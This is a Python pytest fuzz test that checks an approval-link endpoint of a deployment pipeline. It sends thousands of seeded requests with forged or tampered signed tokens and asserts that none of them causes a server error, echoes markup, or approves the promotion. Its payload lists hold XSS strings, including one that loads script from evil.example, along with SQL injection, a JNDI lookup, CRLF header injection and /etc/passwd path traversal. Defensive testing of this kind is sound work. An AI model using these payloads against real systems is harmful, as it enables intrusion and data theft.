"""The approval function URL under generated requests (issue 11, item 4): GET and POST, random and
mutated paths, query strings, damaged and forged links, form bodies, headers, huge and malformed values,
unicode and HTML/script payloads, against the real URL of a promotion waiting for its approval.

For every request: never a 5xx, and nothing the caller sent comes back as markup (no raw `<script`,
no `<img` from the input in the page). Over the whole battery: no decision without a valid signature
(the request stays pending, no approval item, no SendTaskSuccess/Failure, and no audit item of that
request except refusals of links signed with the real key).

Seeded and reproducible: BBWS_FUZZ_SEED picks the seed (else a random one, printed on failure),
BBWS_FUZZ_REQUESTS the count (default 1000; `make soak` runs 10,000)."""
from __future__ import annotations

import base64
import hashlib
import hmac
import http.client
import json
import os
import random
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from urllib.parse import quote, urlsplit

import pipeline_helpers as ph
import pytest

TENANT = "tenant-instance-management"
DEV_TO_SIT = ph.sample_input("promote-dev-to-sit")
FAST = {"monitor": {"sit_seconds": 1, "prod_seconds": 1, "poll_seconds": 1}}
COUNT = int(os.environ.get("BBWS_FUZZ_REQUESTS", "1000"))
SEED = int(os.environ.get("BBWS_FUZZ_SEED", str(random.SystemRandom().randrange(2**32))))
WORKERS = 4
# The only person who can decide this SIT promotion (one Dev Lead, RB-003 §2.2).
DECIDER = "dev-lead@bbws.io"

PAYLOADS = [
    "<script>alert(1)</script>", "\"><script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>", "javascript:alert(1)", "'; DROP TABLE approvals; --",
    "{{7*7}}", "${jndi:ldap://x}", "%00", "\u0000", "\u202e", "é", "日本語", "😀" * 10, "\r\nSet-Cookie: x=1",
    "../../etc/passwd", "%2e%2e%2f", "A" * 5000, "&amp;&lt;script&gt;", "\ud7ff", "\x7f",
]
PATHS = ["/decide", "/decide/", "/DECIDE", "/decide.html", "/decide%00", "/../decide", "//decide", "/health",
         "/", "/approve", "/decide;x", "/decide/../decide", "/%64ecide", "/decide?x", "/" + "a" * 3000]


def b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


def signed(key: bytes, claims: dict | list | str) -> str:
    body = json.dumps(claims, separators=(",", ":")).encode()
    return f"{b64(body)}.{b64(hmac.new(key, body, hashlib.sha256).digest())}"


class Battery:
    """Builds one request per index from the seed: method, path, query, headers, body; and whether
    its token carries the real key's signature (such a link may be refused with an audit entry)."""

    def __init__(self, seed: int, key: bytes, links: dict[str, str], request_id: str) -> None:
        self.seed, self.key, self.request_id = seed, key, request_id
        self.tokens = {d: link.split("t=", 1)[1] for d, link in links.items()}
        self.claims = {d: ph.claims_of(link) for d, link in links.items()}

    def text(self, rnd: random.Random) -> str:
        kind = rnd.randrange(6)
        if kind == 0:
            return rnd.choice(PAYLOADS)
        if kind == 1:
            return "".join(chr(rnd.randrange(0x20, 0x2FFF)) for _ in range(rnd.randrange(0, 40)))
        if kind == 2:
            return "".join(rnd.choice("abcdefghijklmnopqrstuvwxyz0123456789-_.=&%+ ") for _ in range(rnd.randrange(80)))
        if kind == 3:
            return rnd.choice(PAYLOADS) * rnd.randrange(1, 400)
        if kind == 4:
            return "".join(chr(rnd.randrange(0, 0x80)) for _ in range(rnd.randrange(0, 30)))
        return ""

    def token(self, rnd: random.Random) -> tuple[str, bool]:
        """A link token and whether it is signed with the real key (never one that could decide)."""
        decision = rnd.choice(["approve", "reject"])
        good, claims = self.tokens[decision], self.claims[decision]
        kind = rnd.randrange(12)
        if kind == 0:  # truncated
            return good[: rnd.randrange(len(good))], False
        if kind == 1:  # one character changed
            i = rnd.randrange(len(good))
            c = rnd.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_.=+/ %")
            changed = good[:i] + c + good[i + 1:]
            return (changed if changed != good else good[:i] + "!" + good[i + 1:]), False
        if kind == 2:  # one bit of the decoded body or signature flipped, re-encoded
            body, sig = good.split(".")
            raw = bytearray(base64.urlsafe_b64decode(body + "=" * (-len(body) % 4)))
            raws = bytearray(base64.urlsafe_b64decode(sig + "=" * (-len(sig) % 4)))
            target = rnd.choice([raw, raws])
            i = rnd.randrange(len(target))
            target[i] ^= 1 << rnd.randrange(8)
            return f"{b64(bytes(raw))}.{b64(bytes(raws))}", False
        if kind == 3:  # re-signed with a wrong key, claims changed or not
            wrong = bytes(rnd.randrange(256) for _ in range(rnd.choice([16, 32, 48])))
            c = {**claims, rnd.choice("radoe"): rnd.choice([self.text(rnd), DECIDER, "approve", "reject", 9e12])}
            return signed(wrong, rnd.choice([claims, c])), False
        if kind == 4:  # the real signature on changed claims
            c = {**claims, rnd.choice("radoe"): rnd.choice([DECIDER.upper(), "reject", "approve", 4102444800])}
            if c == claims:  # the same claims would carry a valid signature
                c["e"] = claims["e"] + 1
            return f"{b64(json.dumps(c, separators=(',', ':')).encode())}.{good.split('.')[1]}", False
        if kind in (5, 6):  # the real key on claims that cannot decide this request
            c = dict(claims)
            wrong = rnd.randrange(6)
            if wrong == 0:
                c["d"] = rnd.choice(["maybe", "APPROVE", "", 1, None])
            elif wrong == 1:
                c["o"] = rnd.choice(["admin", "tech_lead", "operations_lead", "cto", "Dev_Lead", 3])
                if c["o"] == "dev_lead":
                    c["o"] = "cto"
            elif wrong == 2:
                c["a"] = rnd.choice(["jane@bbws.io", "tech-lead@bbws.io", "ops-lead@bbws.io", "cto@bbws.io",
                                     "dev-lead@bbws.io.evil", self.text(rnd) or "x"])
            elif wrong == 3:
                c["e"] = int(time.time()) - rnd.randrange(1, 10**6)
            elif wrong == 4:
                c["r"] = rnd.choice([self.request_id + "x", "unverified-links", self.text(rnd)])
            else:
                c = rnd.choice([[], "claims", 7, None, {"r": self.request_id}])
            if isinstance(c, dict) and c.get("a") == DECIDER and c.get("r") == self.request_id \
                    and c.get("o") == "dev_lead" and c.get("d") in ("approve", "reject") \
                    and c.get("e", 0) > time.time():
                c["e"] = 1
            return signed(self.key, c), True
        if kind == 7:  # two tokens, or a token with junk around it
            return rnd.choice([f"{good},{good}", f" {good}", f"{good} ", f"{good}.{good}", good + "=="]), False
        if kind == 8:
            return self.text(rnd), False
        if kind == 9:
            return "." * rnd.randrange(1, 5), False
        if kind == 10:
            return "A" * rnd.randrange(1, 200_000), False
        return b64(rnd.randbytes(rnd.randrange(1, 300))) + "." + b64(rnd.randbytes(32)), False

    def request(self, index: int) -> dict:
        rnd = random.Random(f"{self.seed}:{index}")
        method = rnd.choices(["GET", "POST", "HEAD", "PUT", "DELETE", "OPTIONS", "PATCH"], [40, 50, 2, 2, 2, 2, 2])[0]
        path = rnd.choices([rnd.choice(PATHS), "/decide", "/" + quote(self.text(rnd), safe="/%")], [2, 6, 2])[0]
        token, real_key = self.token(rnd)
        query = ""
        if rnd.random() < 0.8:
            params = [("t", token)] if rnd.random() < 0.9 else []
            for _ in range(rnd.randrange(3)):
                params.append((rnd.choice(["t", "confirm", "reason", "x", self.text(rnd)]), rnd.choice(["yes", self.text(rnd)])))
            rnd.shuffle(params)
            # Mostly encoded; sometimes with the HTML and URL punctuation left raw.
            raw = "<>\"'{}|\\^`[]:/?@!$()*+,;="
            query = "&".join(f"{quote(k, safe='')}={quote(v, safe='' if rnd.random() < 0.9 else raw)}"
                             for k, v in params)
        body = b""
        headers = {"User-Agent": "fuzz"}
        if method != "GET" or rnd.random() < 0.1:
            form = []
            if rnd.random() < 0.9:
                form.append(("t", token))
            form.append(("confirm", rnd.choice(["yes", "yes", "yes", "YES", "no", "", "yes,yes", self.text(rnd)])))
            if rnd.random() < 0.5:
                form.append(("reason", self.text(rnd)))
            for _ in range(rnd.randrange(3)):
                form.append((self.text(rnd), self.text(rnd)))
            rnd.shuffle(form)
            body = "&".join(f"{quote(k, safe='')}={quote(v, safe='')}" for k, v in form).encode()
            mangle = rnd.randrange(8)
            if mangle == 0:
                body = body.replace(b"%", b"%%", 1) + b"&%zz=%"
            elif mangle == 1:
                body = bytes(rnd.randrange(256) for _ in range(rnd.randrange(1, 400)))
            elif mangle == 2:
                body = body + b"&reason=" + quote("x" * 300_000).encode()
            headers["Content-Type"] = rnd.choice(["application/x-www-form-urlencoded"] * 4 + [
                "application/json", "multipart/form-data; boundary=x", "application/octet-stream", "text/html"])
        if rnd.random() < 0.2:
            headers["User-Agent"] = rnd.choice([self.text(rnd), "U" * 20_000, "<script>alert(1)</script>"])
        if rnd.random() < 0.1:
            headers["X-Forwarded-For"] = self.text(rnd) or "1.2.3.4"
        if rnd.random() < 0.05:
            headers["Cookie"] = "session=" + self.text(rnd)
        target = path + ("?" + query if query else "")
        decides = (method == "POST" and real_key)
        return {"index": index, "method": method, "target": target, "headers": headers, "body": body,
                "real_key": real_key, "posted_real_key": decides}


class Client:
    """One keep-alive connection per thread; raw paths and bytes are sent as given."""

    def __init__(self, base: str) -> None:
        parts = urlsplit(base)
        self.host, self.port = parts.hostname or "127.0.0.1", parts.port or 80
        self.local = threading.local()

    def send(self, r: dict) -> tuple[int, str]:
        """The status and page; status 0 when the HTTP server closed the connection without one."""
        for attempt in range(2):
            conn = getattr(self.local, "conn", None) or http.client.HTTPConnection(self.host, self.port, timeout=60)
            self.local.conn = conn
            try:
                conn.putrequest(r["method"], r["target"], skip_accept_encoding=True)
                for k, v in r["headers"].items():
                    # Any bytes but the ones that would end the header (a client cannot send those).
                    value = v.encode("utf-8", "surrogatepass")
                    conn.putheader(k, bytes(b for b in value if b not in b"\r\n\0"))
                conn.putheader("Content-Length", str(len(r["body"])))
                conn.endheaders(r["body"])
                resp = conn.getresponse()
                return resp.status, resp.read().decode("utf-8", "replace")
            except (http.client.HTTPException, ConnectionError, OSError):
                # The server may answer an oversized request at once and close while it is sent.
                try:
                    resp = conn.getresponse()
                    status, page = resp.status, resp.read().decode("utf-8", "replace")
                except (http.client.HTTPException, ConnectionError, OSError):
                    status, page = 0, ""
                conn.close()
                self.local.conn = None
                if status or attempt:
                    return status, page
        raise AssertionError("unreachable")


def audit_items(env: str, request_id: str) -> dict[str, dict]:
    items = ph.client(env, "dynamodb").query(
        TableName=f"bbws-approvals-{env}", KeyConditionExpression="request_id = :r",
        ExpressionAttributeValues={":r": {"S": request_id}}, ConsistentRead=True)["Items"]
    return {i["item"]["S"]: {k: ph.plain(v) for k, v in i.items()} for i in items}


@pytest.fixture()
def waiting_promotion(preflight_config):
    preflight_config("sit", **FAST)
    ph.record_gates("dev", f"bbws-{TENANT}-dev", "latest-dev")
    arn = ph.start("sit", DEV_TO_SIT)
    links = ph.approval_links(DECIDER, arn)
    yield arn, links
    if ph.client("sit", "stepfunctions").describe_execution(executionArn=arn)["status"] == "RUNNING":
        ph.confirm(links["reject"], reason="fuzz battery finished")
        ph.wait_execution("sit", arn)


def test_generated_requests_never_fail_never_decide_and_never_echo_markup(waiting_promotion):
    arn, links = waiting_promotion
    request_id = ph.pending_approval("sit", arn)["request_id"]["S"]
    before = audit_items("sit", request_id)
    battery = Battery(SEED, ph.signing_key("sit"), links, request_id)
    client = Client(links["approve"].split("decide?")[0])
    problems: list[str] = []
    statuses: dict[int, int] = {}

    def one(index: int) -> int:
        r = battery.request(index)
        status, page = client.send(r)
        size = len(r["target"]) + sum(len(v) for v in r["headers"].values())
        if status == 0 and size < 60_000:
            problems.append(f"#{index} {r['method']} {r['target'][:120]!r}: the connection closed without an answer")
        if status >= 500:
            problems.append(f"#{index} {r['method']} {r['target'][:120]!r}: {status} {page[:200]!r}")
        low = page.lower()
        if "<script" in low or "<img" in low:
            problems.append(f"#{index} {r['method']} {r['target'][:120]!r}: markup from the input in the page")
        return status

    started = time.monotonic()
    with ThreadPoolExecutor(WORKERS) as pool:
        for status in pool.map(one, range(COUNT)):
            statuses[status] = statuses.get(status, 0) + 1
    elapsed = time.monotonic() - started
    print(f"\napproval URL fuzz: {COUNT} requests, seed {SEED}, {elapsed:.1f} s, statuses {dict(sorted(statuses.items()))}")
    assert not problems, f"seed {SEED} (BBWS_FUZZ_SEED={SEED}):\n" + "\n".join(problems[:30])

    # Nothing was decided: still waiting, no approval given, the wait not answered.
    assert ph.client("sit", "stepfunctions").describe_execution(executionArn=arn)["status"] == "RUNNING", f"seed {SEED}"
    req = ph.pending_approval("sit", arn)
    assert req["status"]["S"] == "pending", f"seed {SEED}: the request left pending"
    after = audit_items("sit", request_id)
    assert not [k for k in after if k.startswith("approval#")], f"seed {SEED}: an approval was recorded"
    assert ph.task_callbacks("sit", arn) == [], f"seed {SEED}: the wait was answered"
    # The only audit entries of this request: refusals of links that carry the real key's signature.
    new = {k: v for k, v in after.items() if k not in before}
    assert all(k.startswith("audit#") and v["outcome"] == "refused" for k, v in new.items()), \
        f"seed {SEED}: {[(k, v.get('outcome')) for k, v in new.items() if v.get('outcome') != 'refused']}"
    posted_real = sum(1 for i in range(COUNT) if battery.request(i)["posted_real_key"])
    assert len(new) <= posted_real, f"seed {SEED}: {len(new)} audit entries, {posted_real} signed links posted"
    assert {k: v for k, v in after.items() if k in before} == before, f"seed {SEED}: an existing item changed"

    # The genuine link still works afterwards: the battery broke nothing.
    assert ph.open_link(links["approve"]).status_code == 200
